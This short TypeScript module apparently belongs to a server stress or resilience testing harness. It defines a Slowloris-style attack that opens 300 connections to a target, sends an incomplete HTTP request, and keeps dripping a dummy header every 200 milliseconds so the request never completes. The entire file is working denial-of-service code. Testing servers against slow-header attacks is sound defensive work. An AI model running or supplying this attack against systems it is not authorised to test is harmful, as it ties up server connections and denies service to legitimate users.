import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "../attack.ts";
import { crowd } from "../crowd.ts";

export const attack: Attack = {
  name: "300 connections that drip a head",
  run: (target, signal) =>
    crowd(target, signal, 300, async (socket) => {
      socket.write("GET / HTTP/1.1\r\n");
      while (!socket.destroyed && !signal.aborted) {
        socket.write("X-A: 1\r\n");
        await sleep(200);
      }
    }),
};
